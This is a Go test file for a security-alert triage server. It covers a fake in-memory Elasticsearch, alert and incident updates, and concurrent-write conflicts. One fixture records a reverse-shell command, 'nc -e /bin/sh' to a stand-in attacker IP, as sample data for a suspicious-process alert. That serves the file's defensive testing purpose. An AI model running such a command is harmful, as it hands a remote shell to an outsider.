@@ -0,0 +1,523 @@
+package server
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"nox/internal/cases"
+	"nox/internal/model"
+	"nox/internal/storage"
+	pb "nox/proto"
+
+	"google.golang.org/grpc/codes"
+	"google.golang.org/grpc/status"
+)
+
+// fakeElasticsearch keeps documents in memory and answers the document
+// APIs the case RPCs use: index (with op_type=create), get, update and
+// delete, honoring if_seq_no and if_primary_term.
+type fakeElasticsearch struct {
+	mu     sync.Mutex
+	docs   map[string]map[string]any // index/id -> source
+	seqNos map[string]int
+	seqNo  int
+	// beforeWrite, when set, runs with the lock held before each write, to
+	// let a test change documents behind the writer's back.
+	beforeWrite func(key string)
+}
+
+const fakePrimaryTerm = 1
+
+// triageScript matches the painless assignment UpdateAlertTriage sends.
+var triageScript = regexp.MustCompile(`^ctx\._source\.(\w+) = params\.(\w+)$`)
+
+func newFakeElasticsearch(t *testing.T) (*fakeElasticsearch, *storage.ESClient) {
+	t.Helper()
+
+	f := &fakeElasticsearch{docs: make(map[string]map[string]any), seqNos: make(map[string]int)}
+	srv := httptest.NewServer(f)
+	t.Cleanup(srv.Close)
+
+	client, err := storage.NewESClient(srv.URL)
+	if err != nil {
+		t.Fatalf("NewESClient: %v", err)
+	}
+	return f, client
+}
+
+func (f *fakeElasticsearch) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	w.Header().Set("X-Elastic-Product", "Elasticsearch")
+	w.Header().Set("Content-Type", "application/json")
+
+	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
+	if len(parts) != 3 {
+		http.Error(w, `{"error":"unsupported"}`, http.StatusBadRequest)
+		return
+	}
+	key := parts[0] + "/" + parts[2]
+
+	var body map[string]any
+	if r.Body != nil && r.ContentLength != 0 {
+		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
+			http.Error(w, `{"error":"bad body"}`, http.StatusBadRequest)
+			return
+		}
+	}
+
+	f.mu.Lock()
+	defer f.mu.Unlock()
+
+	if r.Method == http.MethodGet {
+		doc, exists := f.docs[key]
+		if parts[1] != "_doc" || !exists {
+			w.WriteHeader(http.StatusNotFound)
+			w.Write([]byte(`{"found":false}`))
+			return
+		}
+		json.NewEncoder(w).Encode(map[string]any{"found": true, "_source": doc, "_seq_no": f.seqNos[key], "_primary_term": fakePrimaryTerm})
+		return
+	}
+
+	if f.beforeWrite != nil {
+		f.beforeWrite(key)
+	}
+	doc, exists := f.docs[key]
+	if !f.versionMatches(r, key, exists) {
+		w.WriteHeader(http.StatusConflict)
+		w.Write([]byte(`{"error":{"type":"version_conflict_engine_exception"}}`))
+		return
+	}
+
+	switch {
+	case parts[1] == "_doc" && (r.Method == http.MethodPut || r.Method == http.MethodPost):
+		f.docs[key] = body
+		w.WriteHeader(http.StatusCreated)
+		f.written(w, key, "created")
+	case parts[1] == "_doc" && r.Method == http.MethodDelete:
+		if !exists {
+			w.WriteHeader(http.StatusNotFound)
+			w.Write([]byte(`{"result":"not_found"}`))
+			return
+		}
+		delete(f.docs, key)
+		delete(f.seqNos, key)
+		w.Write([]byte(`{"result":"deleted"}`))
+	case parts[1] == "_update" && r.Method == http.MethodPost:
+		if !exists {
+			w.WriteHeader(http.StatusNotFound)
+			w.Write([]byte(`{"error":{"type":"document_missing_exception"}}`))
+			return
+		}
+		if partial, ok := body["doc"].(map[string]any); ok {
+			mergeDocument(doc, partial)
+		}
+		if script, ok := body["script"].(map[string]any); ok {
+			m := triageScript.FindStringSubmatch(script["source"].(string))
+			if m == nil {
+				http.Error(w, `{"error":"unsupported script"}`, http.StatusBadRequest)
+				return
+			}
+			doc[m[1]] = script["params"].(map[string]any)[m[2]]
+		}
+		f.written(w, key, "updated")
+	default:
+		http.Error(w, `{"error":"unsupported"}`, http.StatusBadRequest)
+	}
+}
+
+// versionMatches applies op_type=create and if_seq_no/if_primary_term.
+func (f *fakeElasticsearch) versionMatches(r *http.Request, key string, exists bool) bool {
+	q := r.URL.Query()
+	if q.Get("op_type") == "create" && exists {
+		return false
+	}
+	if q.Has("if_seq_no") {
+		return exists && q.Get("if_seq_no") == strconv.Itoa(f.seqNos[key]) && q.Get("if_primary_term") == strconv.Itoa(fakePrimaryTerm)
+	}
+	return true
+}
+
+// written gives key a new sequence number and reports it like a write
+// response does.
+func (f *fakeElasticsearch) written(w http.ResponseWriter, key, result string) {
+	f.bump(key)
+	json.NewEncoder(w).Encode(map[string]any{"result": result, "_seq_no": f.seqNos[key], "_primary_term": fakePrimaryTerm})
+}
+
+// bump records a change to key. The caller holds the lock.
+func (f *fakeElasticsearch) bump(key string) {
+	f.seqNo++
+	f.seqNos[key] = f.seqNo
+}
+
+// mergeDocument merges partial into doc the way Elasticsearch merges a
+// partial update: objects recursively, everything else replaced.
+func mergeDocument(doc, partial map[string]any) {
+	for k, v := range partial {
+		if obj, ok := v.(map[string]any); ok {
+			if existing, ok := doc[k].(map[string]any); ok {
+				mergeDocument(existing, obj)
+				continue
+			}
+		}
+		doc[k] = v
+	}
+}
+
+func newCaseServer(t *testing.T, alerts ...model.Alert) (*NoxAPIServer, []string) {
+	t.Helper()
+
+	_, client := newFakeElasticsearch(t)
+	return newCaseServerOn(t, client, alerts...)
+}
+
+func newCaseServerOn(t *testing.T, client *storage.ESClient, alerts ...model.Alert) (*NoxAPIServer, []string) {
+	t.Helper()
+
+	var ids []string
+	for _, alert := range alerts {
+		id := alert.ID()
+		if err := client.IndexAlert(context.Background(), id, alert); err != nil {
+			t.Fatalf("IndexAlert: %v", err)
+		}
+		ids = append(ids, id)
+	}
+	return NewNoxAPIServer(client), ids
+}
+
+func analystContext(name string) context.Context {
+	return context.WithValue(context.Background(), identityKey{}, Identity{Name: name, Role: RoleHunter})
+}
+
+func caseAlert(rule, severity, source string, offset time.Duration) model.Alert {
+	return model.Alert{
+		RuleName:  rule,
+		RuleID:    strings.ToLower(rule),
+		Severity:  severity,
+		Timestamp: time.Date(2026, time.June, 19, 12, 0, 0, 0, time.UTC).Add(offset),
+		Source:    source,
+		Message:   rule + " from " + source,
+		Metadata:  map[string]string{},
+	}
+}
+
+func TestUpdateAlert(t *testing.T) {
+	s, ids := newCaseServer(t, caseAlert("TooManyFailedLogins", "HIGH", "203.0.113.7", 0))
+	ctx := analystContext("alice")
+	bob, nobody := "bob", ""
+
+	got, err := s.UpdateAlert(ctx, &pb.UpdateAlertRequest{Id: ids[0], Status: cases.StatusInProgress, Assignee: &bob, AddTags: []string{"ssh"}, Note: "looking"})
+	if err != nil {
+		t.Fatalf("UpdateAlert: %v", err)
+	}
+	if got.Triage.Status != cases.StatusInProgress || got.Triage.Assignee != "bob" || got.Triage.UpdatedBy != "alice" {
+		t.Fatalf("got triage %v, want in-progress, assigned to bob, updated by alice", got.Triage)
+	}
+	if len(got.Triage.Notes) != 1 || got.Triage.Notes[0].Author != "alice" {
+		t.Fatalf("got notes %v, want one by alice", got.Triage.Notes)
+	}
+
+	// unassigning has to clear the stored assignee, not merge around it
+	if _, err := s.UpdateAlert(ctx, &pb.UpdateAlertRequest{Id: ids[0], Assignee: &nobody}); err != nil {
+		t.Fatalf("UpdateAlert: %v", err)
+	}
+	record, err := s.esClient.GetAlert(context.Background(), ids[0])
+	if err != nil {
+		t.Fatalf("GetAlert: %v", err)
+	}
+	if record.Triage.Assignee != "" || record.Triage.Status != cases.StatusInProgress || len(record.Triage.Tags) != 1 {
+		t.Fatalf("got stored triage %+v, want unassigned, still in progress and tagged", record.Triage)
+	}
+
+	tests := []struct {
+		name string
+		req  *pb.UpdateAlertRequest
+		code codes.Code
+	}{
+		{name: "missing id", req: &pb.UpdateAlertRequest{Status: cases.StatusResolved}, code: codes.InvalidArgument},
+		{name: "unknown alert", req: &pb.UpdateAlertRequest{Id: "nope", Status: cases.StatusResolved}, code: codes.NotFound},
+		{name: "unknown status", req: &pb.UpdateAlertRequest{Id: ids[0], Status: "done"}, code: codes.InvalidArgument},
+		{name: "unknown incident", req: &pb.UpdateAlertRequest{Id: ids[0], IncidentId: "inc-missing"}, code: codes.NotFound},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := s.UpdateAlert(ctx, tt.req); status.Code(err) != tt.code {
+				t.Fatalf("got error %v, want code %s", err, tt.code)
+			}
+		})
+	}
+}
+
+func TestReplayedAlertKeepsTriage(t *testing.T) {
+	alert := caseAlert("TooManyFailedLogins", "HIGH", "203.0.113.7", 0)
+	s, ids := newCaseServer(t, alert)
+
+	if _, err := s.UpdateAlert(analystContext("alice"), &pb.UpdateAlertRequest{Id: ids[0], Status: cases.StatusFalsePositive, Note: "pentest"}); err != nil {
+		t.Fatalf("UpdateAlert: %v", err)
+	}
+
+	// replaying the log raises the same alert again
+	if err := s.esClient.IndexAlert(context.Background(), alert.ID(), alert); err != nil {
+		t.Fatalf("IndexAlert: %v", err)
+	}
+
+	record, err := s.esClient.GetAlert(context.Background(), ids[0])
+	if err != nil {
+		t.Fatalf("GetAlert: %v", err)
+	}
+	if record.Triage.Status != cases.StatusFalsePositive || len(record.Triage.Notes) != 1 {
+		t.Fatalf("got triage %+v after replay, want the false-positive verdict kept", record.Triage)
+	}
+}
+
+func TestSameSecondProcessAlertsAreStoredApart(t *testing.T) {
+	var alerts []model.Alert
+	for _, pid := range []string{"900", "901"} {
+		alert := caseAlert("SuspiciousCommand", "HIGH", "127.0.0.1", 0)
+		alert.Events = []model.Event{{
+			Timestamp: alert.Timestamp,
+			EventType: "Process_Executed",
+			Source:    "127.0.0.1",
+			Metadata:  map[string]string{"pid": pid, "command": "nc -e /bin/sh 203.0.113.7 4444"},
+			Input:     "execsnoop.log",
+			Raw:       "execsnoop line " + pid,
+		}}
+		alerts = append(alerts, alert)
+	}
+
+	s, ids := newCaseServer(t, alerts...)
+	if ids[0] == ids[1] {
+		t.Fatalf("got both alerts stored as %s, want two documents", ids[0])
+	}
+	for i, id := range ids {
+		record, err := s.esClient.GetAlert(context.Background(), id)
+		if err != nil {
+			t.Fatalf("GetAlert(%s): %v", id, err)
+		}
+		if got := record.Events[0].Metadata["pid"]; got != alerts[i].Events[0].Metadata["pid"] {
+			t.Fatalf("got alert %s for pid %s, want pid %s", id, got, alerts[i].Events[0].Metadata["pid"])
+		}
+	}
+}
+
+func TestCreateIncident(t *testing.T) {
+	s, ids := newCaseServer(t,
+		caseAlert("TooManyFailedLogins", "HIGH", "203.0.113.7", 0),
+		caseAlert("CorrelatedBruteForceAndEvasion", "CRITICAL", "203.0.113.7", time.Minute),
+		caseAlert("PasswordSpray", "MEDIUM", "198.51.100.9", 2*time.Minute),
+	)
+	ctx := analystContext("alice")
+
+	inc, err := s.CreateIncident(ctx, &pb.CreateIncidentRequest{AlertIds: ids[:2], Assignee: "bob", Tags: []string{"ssh"}, Note: "same attacker"})
+	if err != nil {
+		t.Fatalf("CreateIncident: %v", err)
+	}
+	if inc.Severity != "CRITICAL" || inc.CreatedBy != "alice" || inc.Triage.Assignee != "bob" {
+		t.Fatalf("got incident %v, want critical, created by alice, assigned to bob", inc)
+	}
+	if want := "CorrelatedBruteForceAndEvasion from 203.0.113.7 and 1 related alerts"; inc.Title != want {
+		t.Fatalf("got title %q, want %q", inc.Title, want)
+	}
+
+	for _, id := range ids[:2] {
+		record, err := s.esClient.GetAlert(context.Background(), id)
+		if err != nil {
+			t.Fatalf("GetAlert: %v", err)
+		}
+		if record.Triage.IncidentID != inc.Id {
+			t.Fatalf("got alert %s in incident %q, want %q", id, record.Triage.IncidentID, inc.Id)
+		}
+	}
+
+	stored, _, err := s.esClient.GetIncident(context.Background(), inc.Id)
+	if err != nil {
+		t.Fatalf("GetIncident: %v", err)
+	}
+	if len(stored.AlertIDs) != 2 {
+		t.Fatalf("got stored incident with alerts %v, want 2", stored.AlertIDs)
+	}
+
+	tests := []struct {
+		name string
+		req  *pb.CreateIncidentRequest
+		code codes.Code
+	}{
+		{name: "no alerts", req: &pb.CreateIncidentRequest{}, code: codes.InvalidArgument},
+		{name: "unknown alert", req: &pb.CreateIncidentRequest{AlertIds: []string{"nope"}}, code: codes.NotFound},
+		{name: "alert already in an incident", req: &pb.CreateIncidentRequest{AlertIds: []string{ids[0], ids[2]}}, code: codes.FailedPrecondition},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := s.CreateIncident(ctx, tt.req); status.Code(err) != tt.code {
+				t.Fatalf("got error %v, want code %s", err, tt.code)
+			}
+		})
+	}
+
+	// an alert can still be merged into the incident on its own
+	got, err := s.UpdateAlert(ctx, &pb.UpdateAlertRequest{Id: ids[2], IncidentId: inc.Id})
+	if err != nil {
+		t.Fatalf("UpdateAlert: %v", err)
+	}
+	if got.Triage.IncidentId != inc.Id {
+		t.Fatalf("got alert in incident %q, want %q", got.Triage.IncidentId, inc.Id)
+	}
+	if stored, _, _ = s.esClient.GetIncident(context.Background(), inc.Id); len(stored.AlertIDs) != 3 {
+		t.Fatalf("got incident alerts %v, want 3", stored.AlertIDs)
+	}
+}
+
+func TestUpdateIncident(t *testing.T) {
+	s, ids := newCaseServer(t,
+		caseAlert("TooManyFailedLogins", "HIGH", "203.0.113.7", 0),
+		caseAlert("PasswordSpray", "MEDIUM", "203.0.113.7", time.Minute),
+	)
+	ctx := analystContext("alice")
+
+	inc, err := s.CreateIncident(ctx, &pb.CreateIncidentRequest{AlertIds: ids})
+	if err != nil {
+		t.Fatalf("CreateIncident: %v", err)
+	}
+
+	carol := "carol"
+	got, err := s.UpdateIncident(analystContext("bob"), &pb.UpdateIncidentRequest{Id: inc.Id, Status: cases.StatusFalsePositive, Assignee: &carol, Note: "red team"})
+	if err != nil {
+		t.Fatalf("UpdateIncident: %v", err)
+	}
+	if got.Triage.Status != cases.StatusFalsePositive || got.Triage.Assignee != "carol" || got.Triage.UpdatedBy != "bob" {
+		t.Fatalf("got triage %v, want false-positive, assigned to carol, updated by bob", got.Triage)
+	}
+
+	// the verdict carries over to every alert, which stay in the incident
+	for _, id := range ids {
+		record, err := s.esClient.GetAlert(context.Background(), id)
+		if err != nil {
+			t.Fatalf("GetAlert: %v", err)
+		}
+		if record.Triage.Status != cases.StatusFalsePositive || record.Triage.IncidentID != inc.Id {
+			t.Fatalf("got alert %s triage %+v, want false-positive in %s", id, record.Triage, inc.Id)
+		}
+	}
+
+	tests := []struct {
+		name string
+		req  *pb.UpdateIncidentRequest
+		code codes.Code
+	}{
+		{name: "missing id", req: &pb.UpdateIncidentRequest{Status: cases.StatusResolved}, code: codes.InvalidArgument},
+		{name: "unknown incident", req: &pb.UpdateIncidentRequest{Id: "inc-missing", Status: cases.StatusResolved}, code: codes.NotFound},
+		{name: "unknown status", req: &pb.UpdateIncidentRequest{Id: inc.Id, Status: "done"}, code: codes.InvalidArgument},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := s.UpdateIncident(ctx, tt.req); status.Code(err) != tt.code {
+				t.Fatalf("got error %v, want code %s", err, tt.code)
+			}
+		})
+	}
+}
+
+// changeOnce makes another writer change the document at target the first
+// time anything is written to trigger.
+func (f *fakeElasticsearch) changeOnce(trigger, target string, triage map[string]any) {
+	f.beforeWrite = func(key string) {
+		if key != trigger {
+			return
+		}
+		f.beforeWrite = nil
+		f.docs[target]["Triage"] = triage
+		f.bump(target)
+	}
+}
+
+func TestUpdateAlertAbortsOnConcurrentChange(t *testing.T) {
+	f, client := newFakeElasticsearch(t)
+	s, ids := newCaseServerOn(t, client, caseAlert("TooManyFailedLogins", "HIGH", "203.0.113.7", 0))
+	key := storage.AlertIndex + "/" + ids[0]
+
+	// another replica assigns the alert between our read and our write
+	f.changeOnce(key, key, map[string]any{"Assignee": "dave"})
+	_, err := s.UpdateAlert(analystContext("alice"), &pb.UpdateAlertRequest{Id: ids[0], Status: cases.StatusInProgress})
+	if status.Code(err) != codes.Aborted {
+		t.Fatalf("got error %v, want Aborted", err)
+	}
+
+	record, err := s.esClient.GetAlert(context.Background(), ids[0])
+	if err != nil {
+		t.Fatalf("GetAlert: %v", err)
+	}
+	if record.Triage.Assignee != "dave" || record.Triage.Status != "" {
+		t.Fatalf("got triage %+v, want the other writer's change kept", record.Triage)
+	}
+
+	// a retry reads the new version and succeeds
+	got, err := s.UpdateAlert(analystContext("alice"), &pb.UpdateAlertRequest{Id: ids[0], Status: cases.StatusInProgress})
+	if err != nil {
+		t.Fatalf("UpdateAlert retry: %v", err)
+	}
+	if got.Triage.Status != cases.StatusInProgress || got.Triage.Assignee != "dave" {
+		t.Fatalf("got triage %v, want in-progress and still assigned to dave", got.Triage)
+	}
+}
+
+func TestCreateIncidentDetachesAlertsOnConflict(t *testing.T) {
+	f, client := newFakeElasticsearch(t)
+	s, ids := newCaseServerOn(t, client,
+		caseAlert("TooManyFailedLogins", "HIGH", "203.0.113.7", 0),
+		caseAlert("PasswordSpray", "MEDIUM", "203.0.113.7", time.Minute),
+	)
+
+	// whichever alert is attached first, the other one changes meanwhile
+	f.beforeWrite = func(key string) {
+		f.beforeWrite = nil
+		for _, id := range ids {
+			if other := storage.AlertIndex + "/" + id; other != key {
+				f.docs[other]["Triage"] = map[string]any{"Assignee": "dave"}
+				f.bump(other)
+			}
+		}
+	}
+
+	_, err := s.CreateIncident(analystContext("alice"), &pb.CreateIncidentRequest{AlertIds: ids})
+	if status.Code(err) != codes.Aborted {
+		t.Fatalf("got error %v, want Aborted", err)
+	}
+
+	for _, id := range ids {
+		record, err := s.esClient.GetAlert(context.Background(), id)
+		if err != nil {
+			t.Fatalf("GetAlert: %v", err)
+		}
+		if record.Triage.IncidentID != "" {
+			t.Fatalf("got alert %s in incident %q, want it detached", id, record.Triage.IncidentID)
+		}
+	}
+	for key := range f.docs {
+		if strings.HasPrefix(key, storage.IncidentIndex+"/") {
+			t.Fatalf("got incident %s stored, want none", key)
+		}
+	}
+}
+
+func TestCaseRPCsWithoutStorage(t *testing.T) {
+	s := NewNoxAPIServer(nil)
+	ctx := context.Background()
+
+	if _, err := s.UpdateAlert(ctx, &pb.UpdateAlertRequest{Id: "a"}); status.Code(err) != codes.Unavailable {
+		t.Fatalf("got UpdateAlert error %v, want Unavailable", err)
+	}
+	if _, err := s.CreateIncident(ctx, &pb.CreateIncidentRequest{AlertIds: []string{"a"}}); status.Code(err) != codes.Unavailable {
+		t.Fatalf("got CreateIncident error %v, want Unavailable", err)
+	}
+	if _, err := s.UpdateIncident(ctx, &pb.UpdateIncidentRequest{Id: "inc-a"}); status.Code(err) != codes.Unavailable {
+		t.Fatalf("got UpdateIncident error %v, want Unavailable", err)
+	}
+}